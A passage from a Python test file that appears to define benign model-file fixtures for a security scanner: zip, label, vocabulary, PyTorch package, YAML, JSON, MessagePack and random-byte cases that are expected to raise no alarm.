    "a zip with a remark": ("m.zip", lambda: commented("Trained on 2024-01-01\r\nfür alle".encode())),
    "labels": ("labels.txt", lambda: b"cat\ndog\nbird\nfrog\n"),
    "labels that begin as another call does": ("labels.txt", lambda: b"ice\nrain\nsnow\n"),
    "a vocabulary": ("vocab.txt", lambda: b"the\npoint\nlicense\ncos\nsin\ntan\npaint\nred\n"),
    "a package of PyTorch's with its list of modules": (
        "m.pt",
        lambda: zipped({"m/.data/extern_modules": b"collections\ntorch._utils\ntorch\n", "m/model/x.pkl": PLAIN}),
    ),
    "YAML with aliases": ("m.yaml", lambda: b"base: &base\n  lr: 1\na:\n  <<: *base\nb:\n  <<: *base\n  _target_: torch.optim.Adam\n"),
    "JSON that begins as a server's answer does": ("results.json", lambda: b'{"error": 0.125}'),
    "JSON in UTF-16": ("config.json", lambda: '{"a": "ä"}'.encode("utf-16")),
    "MessagePack": ("m.msgpack", lambda: b"\x81\xa1w\x01"),
    "random bytes": ("weights.bin", lambda: bytes((index * 7919 + index // 251) % 256 for index in range(100_000))),
}
"""What ordinary models are: no alarm."""
